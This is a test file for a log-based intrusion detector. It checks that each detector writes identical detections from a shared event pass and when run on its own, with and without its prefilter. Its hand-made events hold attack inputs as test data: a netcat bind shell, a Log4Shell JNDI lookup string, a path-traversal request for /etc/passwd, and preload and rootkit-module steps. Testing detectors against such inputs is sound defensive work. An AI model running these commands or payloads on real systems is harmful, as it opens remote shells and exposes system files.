// Exactness of the shared log-event pass (issue 17): every log detector writes exactly the same
// detections — detector, technique, host, peer, span, score, summary and evidence — whether it
// reads the detect stage's shared table of log events (detect_log_event,
// lib/detect/shared-passes.ts) or, run on its own, the rows computed from every log_event row of
// the assessment (lib/detect/logs/log-events.ts); and an event rule writes the same without its
// prefilter (a cheap test that must follow from its predicate). On the recorded intrusions (their
// text and JSON-lines log bundles), on public log samples, on hand-made events of the rare steps
// and on generated scenarios (one with every attack), at the default thresholds and at sensitive
// ones.
import { beforeAll, describe, expect, it } from 'vitest';
import { fixture, hasFixtures } from '../../test/fixtures';
import { insertEvents, newAssessment } from '../../test/kits/detect';
import { loadedAssessments, recording } from '../../test/kits/loaded-assessments';
import { detectionsOf } from '../../test/kits/shared-detections';
import { ZScenarioName } from '../eval/truth';
import { generateScenario } from '../generate/generate-scenario';
import { defineEventRule, eventRuleOf } from './logs/event-rule';
import { detectors } from './registry';

const LOG_DETECTORS = detectors.filter((d) => d.source === 'logs').map((d) => d.id);

/** Low thresholds, so the quieter detectors have something to write. */
const SENSITIVE: Record<string, Record<string, number>> = {
  'logs.command-beacon': { minRuns: 4, minScore: 0 },
  'logs.tool-download': { repeatRuns: 1000 },
  'logs.tool-upload': { c2Runs: 1 },
  'logs.web-error-burst': { minErrors: 2 },
  'logs.firewall-drop-scan': { ports: 2, hosts: 2 },
  'logs.ssh-password-guessing': { failures: 2 },
  'logs.ssh-bruteforce-success': { failures: 1, sameUser: 0 },
  'logs.privilege-escalation': { guessFailures: 1 },
  'logs.ftp-password-guessing': { failures: 2 },
  'logs.ftp-bulk-download': { minFiles: 1 },
  'logs.webshell-callout': { maxClients: 1000 },
  'logs.ssh-lateral-client': { pivotSeconds: 30 * 86_400 },
  'logs.new-source-login': { baselineSeconds: 0, guessWindowSeconds: 0 },
};

// Analyzed after the ingest: hosts resolved (ssh-lateral-client reads them).
const { datasets, load, scratchDir } = loadedAssessments('shared log pass', { analyze: true });

beforeAll(async () => {
  for (const name of ['webshop-intrusion', 'appliance-exfil', 'redis-jsonlog']) {
    await load(name, [
      { kind: 'logs', file: recording(name, 'logbundle.tar.gz') },
      { kind: 'flows', file: recording(name, 'flows.csv') },
      { kind: 'inventory', file: recording(name, 'inventory.csv') },
    ]);
  }
  await load('redis-jsonlog JSON-lines bundle', [{ kind: 'logs', file: recording('redis-jsonlog', 'logbundle-json.tar.gz') }]);
  if (hasFixtures) {
    await load('public logs: OpenSSH, laurel, beats auditd, OTRF Log4Shell', [
      { kind: 'logs', file: fixture('logs/syslog/loghub/OpenSSH/OpenSSH_2k.log') },
      { kind: 'logs', file: fixture('logs/auditd/laurel/testdata/record-perl-reverse-shell.txt') },
      { kind: 'logs', file: fixture('logs/auditd/laurel/testdata/record-bind-ipv4-bigendian.txt') },
      { kind: 'logs', file: fixture('logs/auditd/elastic-beats/useradd.log') },
      { kind: 'logs', file: fixture('paired/otrf-log4shell-jndi/derived_auoms_syslogmessage_lines.log') },
    ]);
  }
  // Steps no recording or scenario holds (the cases of logs/log-detectors.test.ts), each with a look-alike.
  const handMade = await newAssessment();
  const at = (s: number) => new Date(Date.parse('2024-03-07T10:00:00Z') + s * 1000);
  await insertEvents(handMade, [
    { ts: at(0), kind: 'file_write', host: 'alpha', exe: '/usr/bin/vi', paths: ['/etc/ld.so.preload'] },
    { ts: at(5), kind: 'exec', host: 'alpha', exe: '/usr/bin/tee', argv: ['tee', '-a', '/etc/ld.so.preload'], user: 'root', uid: 0, euid: 0 },
    { ts: at(9), kind: 'file_write', host: 'alpha', exe: '/usr/bin/vi', paths: ['/etc/ld.so.conf'] },
    { ts: at(10), kind: 'exec', host: 'alpha', exe: '/sbin/insmod', argv: ['/sbin/insmod', 'rootkit.ko'], user: 'root', uid: 0, euid: 0 },
    { ts: at(20), kind: 'module_load', host: 'alpha', exe: '/usr/bin/kmod', argv: ['modprobe', 'nf_tables'], paths: ['nf_tables'] },
    // A bind shell (netcat listening), and a service binding its port (the look-alike): without
    // the public fixtures (laurel's bind records) nothing else exercises logs.unusual-listener.
    { ts: at(25), kind: 'bind', host: 'alpha', exe: '/usr/bin/nc.traditional', argv: ['nc', '-lvp', '4444', '-e', '/bin/sh'], src: '0.0.0.0', sport: 4444 },
    { ts: at(26), kind: 'bind', host: 'alpha', exe: '/usr/sbin/nginx', argv: ['nginx'], src: '0.0.0.0', sport: 80 },
    {
      ts: at(30),
      kind: 'http_request',
      host: 'web',
      program: 'nginx',
      src: '198.51.100.5',
      argv: ['GET', `/?x=\${jndi:ldap://198.51.100.5:1389/a}`, '200', '12', 'curl/8.5.0'],
      result: '200',
      raw: `198.51.100.5 - - [07/Mar/2024:10:00:30 +0000] "GET /?x=\${jndi:ldap://198.51.100.5:1389/a} HTTP/1.1" 200 12 "-" "curl/8.5.0"`,
    },
    {
      ts: at(31),
      kind: 'http_request',
      host: 'web',
      program: 'nginx',
      src: '198.51.100.5',
      argv: ['GET', '/../../../etc/passwd', '404', '12', 'curl/8.5.0'],
      result: '404',
      raw: '198.51.100.5 - - [07/Mar/2024:10:00:31 +0000] "GET /../../../etc/passwd HTTP/1.1" 404 12 "-" "curl/8.5.0"',
    },
  ]);
  datasets.push({ label: 'hand-made rare steps', assessmentId: handMade });
  const every = ZScenarioName.options;
  for (const [seed, attacks] of [
    [3, undefined],
    [11, undefined],
    [3, every],
  ] as const) {
    const gen = await generateScenario({
      outDir: scratchDir(`shared-log-pass-${seed}${attacks ? '-every' : ''}`),
      hosts: 12,
      days: 0.5,
      seed,
      ...(attacks ? { attacks: [...attacks] } : {}),
    });
    await load(`generated 12 hosts × 12 h, seed ${seed}${attacks ? ', every attack' : ''}`, [
      { kind: 'inventory', file: gen.files.inventory },
      { kind: 'logs', file: gen.files.logs },
    ]);
  }
}, 900_000);

const found = new Map<string, number>();

describe('log detectors write the same detections from the shared log-event pass as from log_event', () => {
  it.each(LOG_DETECTORS)(
    '%s',
    async (id) => {
      const d = detectors.find((x) => x.id === id);
      if (!d) throw new Error(`no detector ${id}`);
      let n = 0;
      for (const ds of datasets) {
        for (const [name, overrides] of [
          ['defaults', {}],
          ['sensitive', { [id]: SENSITIVE[id] ?? {} }],
        ] as const) {
          const alone = await detectionsOf(d, ds.assessmentId, overrides, false);
          const shared = await detectionsOf(d, ds.assessmentId, overrides, true);
          expect(shared, `${ds.label}, ${name}`).toEqual(alone);
          // An event rule's prefilter only skips events its `where` rejects: the rule without it writes the same.
          const rule = eventRuleOf(d);
          if (rule?.prefilter) {
            const unfiltered = await detectionsOf(defineEventRule({ ...rule, prefilter: undefined }), ds.assessmentId, overrides, false);
            expect(unfiltered, `${ds.label}, ${name}, without the prefilter`).toEqual(alone);
          }
          n += alone.length;
        }
      }
      found.set(id, n);
    },
    300_000,
  );

  it('compared detections, not only empty results', () => {
    const quiet = LOG_DETECTORS.filter((id) => !found.get(id));
    // The recordings and scenarios hold no FTP server: its three detectors have nothing to write.
    expect(quiet.filter((id) => !id.startsWith('logs.ftp-'))).toEqual([]);
  });
});
